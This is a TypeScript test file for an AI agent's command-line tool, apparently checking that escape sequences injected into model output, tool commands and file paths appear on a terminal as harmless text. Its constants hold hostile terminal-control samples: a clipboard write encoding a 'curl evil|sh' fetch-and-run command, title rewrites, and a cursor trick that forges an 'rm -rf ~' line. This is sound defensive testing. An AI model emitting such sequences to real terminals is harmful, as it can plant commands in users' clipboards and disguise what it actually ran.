import { chmod, mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseEventLine, serializeEvent } from '../../src/contract/serialize.ts'
import { type CliOptions, runCli, runCliInTerminal } from '../support/cli-process.ts'
import { type MockOpenAI, startMockOpenAI } from '../support/mock-openai.ts'

/**
 * A prompt injection's escape sequences — OSC 52 (set the clipboard), OSC 0/2 (the window
 * title), cursor movement and line erasing, a bare carriage return, C1 controls — in a model's
 * answer, its reasoning, a command it runs (and that command's output) and a file path it asks
 * for: `turnline` shows them on a terminal as text (ESC as ␛), never as controls, and passes
 * them byte-exact to a pipe. The terminal is a real pseudo-terminal (`script`).
 */
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsfHNo\x07'
const TITLE = '\x1b]0;pwned\x07\x1b]2;pwned again\x1b\\'
const CURSOR = '\x1b[2A\x1b[2K\r✓ exec_command rm -rf ~ · exit 0'
const C1 = '\u009b2J\u009d52;c;ZXZpbA==\u009c\u0085'
const OTHER = '\x07\x08\x7f\x00'
const HOSTILE = `${CLIPBOARD}${TITLE}${CURSOR}${C1}${OTHER}`

let dir = ''
let mock: MockOpenAI
let options: CliOptions = {}
let sessionId = ''
let eventsFile = ''
let execInTerminal = ''

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'turnline-cli-tty-'))
  // The command sandbox's user must get through to the workspaces (mkdtemp makes it 0700).
  await chmod(dir, 0o711)
  mock = await startMockOpenAI()
  options = {
    cwd: dir,
    env: {
      TURNLINE_DATA_DIR: join(dir, 'data'),
      OPENAI_BASE_URL: mock.baseURL,
      OPENAI_API_KEY: 'sk-test',
      TURNLINE_MODEL: 'gpt-4o-mini',
    },
  }
  mock.enqueue(
    {
      reasoning: `thinking ${HOSTILE}`,
      toolCalls: [
        {
          id: 'call_1',
          name: 'exec_command',
          arguments: JSON.stringify({ cmd: `echo '${HOSTILE}'` }),
        },
        { id: 'call_2', name: 'read_file', arguments: JSON.stringify({ path: `x${HOSTILE}.txt` }) },
      ],
    },
    { text: `Done. ${HOSTILE} The end.` },
  )
  eventsFile = join(dir, 'events.jsonl')
  // The run itself on a terminal: progress (stderr) and the answer share it.
  const run = await runCliInTerminal(['exec', '--events', eventsFile, 'Do it'], options)
  expect(run.code, run.stdout).toBe(0)
  mock.assertDone()
  execInTerminal = run.stdout
  sessionId = /session (session-\S+)/.exec(execInTerminal)?.[1] ?? ''
  expect(sessionId).not.toBe('')
}, 180_000)
afterAll(async () => {
  await mock?.close()
  await rm(dir, { recursive: true, force: true })
})

/** What a terminal would obey: any ESC, C1 control, or C0 control but tab, newline and \r\n. */
function controlsIn(text: string): string[] {
  const found = new Set<string>()
  for (const char of text.replaceAll('\r\n', '\n')) {
    const code = char.charCodeAt(0)
    const control =
      (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f)
    if (control) found.add(`U+${code.toString(16).padStart(4, '0')}`)
  }
  return [...found]
}

describe('turnline on a terminal shows hostile text, never obeys it', { timeout: 180_000 }, () => {
  it('turnline events: the readable view has no control character, and shows each sequence as text', async () => {
    const shown = await runCliInTerminal(['events', sessionId], options)
    expect(shown.code, shown.stdout).toBe(0)
    expect(controlsIn(shown.stdout)).toEqual([])
    expect(shown.stdout).toContain('␛]52;c;Y3VybCBldmlsfHNo')
    expect(shown.stdout).toContain('␛]0;pwned')
    expect(shown.stdout).toContain('␛[2A␛[2K✓ exec_command rm -rf ~')
    expect(shown.stdout).toContain('Done. ␛]52;c;')
    expect(shown.stdout).toMatch(/exec_command echo/)
    expect(shown.stdout).toMatch(/read_file x␛\]52/)
  })

  it('turnline events --json: JSON that parses, with no raw control character', async () => {
    const shown = await runCliInTerminal(['events', sessionId, '--json'], options)
    expect(shown.code, shown.stdout).toBe(0)
    expect(controlsIn(shown.stdout)).toEqual([])
    const lines = shown.stdout.split('\r\n').filter(Boolean)
    expect(lines.length).toBeGreaterThan(5)
    for (const line of lines) expect(() => JSON.parse(line)).not.toThrow()
    expect(shown.stdout).toContain('\\u001b]52;c;Y3VybCBldmlsfHNo')
  })

  it('turnline exec: its progress and answer on a terminal hold no control but its own redraws', () => {
    const withoutRedraws = execInTerminal.replaceAll('\r\x1b[2K', '')
    expect(controlsIn(withoutRedraws)).toEqual([])
    expect(execInTerminal).toContain('Done. ␛]52;c;')
  })

  it('turnline sessions lists it on a terminal without controls', async () => {
    const listed = await runCliInTerminal(['sessions'], options)
    expect(listed.code, listed.stdout).toBe(0)
    expect(listed.stdout).toContain(sessionId)
    expect(controlsIn(listed.stdout)).toEqual([])
  })
})

describe('turnline to a pipe is byte-exact', { timeout: 180_000 }, () => {
  it('turnline events --json: the stored events byte for byte, hostile characters included', async () => {
    const piped = await runCli(['events', sessionId, '--json'], options)
    expect(piped.code, piped.stderr).toBe(0)
    // The same bytes as exec's --events file (written as the run went), canonical VT Code lines.
    expect(piped.stdout).toBe(await readFile(eventsFile, 'utf8'))
    for (const line of piped.stdout.split('\n').filter(Boolean)) {
      expect(serializeEvent(parseEventLine(line))).toBe(line)
    }
    expect(piped.stdout).toContain('\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007')
    expect(piped.stdout).toContain('\u009b2J\u009d52;c;ZXZpbA==\u009c\u0085')
  })

  it('turnline exec: the final answer to a pipe is the model text unchanged', async () => {
    mock.enqueue({ text: `Again ${HOSTILE}` })
    const piped = await runCli(['exec', '--keep-open', 'Once more'], options)
    expect(piped.code, piped.stderr).toBe(0)
    expect(piped.stdout).toBe(`Again ${HOSTILE}\n`)
    // Progress goes to stderr, a human view: terminal-safe even when it is not a terminal.
    expect(controlsIn(piped.stderr)).toEqual([])
    expect(piped.stderr).toContain('Again ␛]52;c;')
    mock.assertDone()
  })
})
